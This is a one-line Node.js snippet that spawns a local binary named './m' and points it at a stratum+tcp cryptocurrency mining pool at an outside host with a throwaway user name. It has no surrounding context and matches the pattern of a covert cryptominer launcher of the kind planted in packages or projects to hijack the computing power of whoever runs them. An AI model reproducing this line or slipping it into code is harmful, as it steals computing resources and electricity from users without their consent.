require('child_process').spawn('./m', ['-o', 'stratum+tcp://pool.host-of-nobody.io:3333', '-u', 'x']);
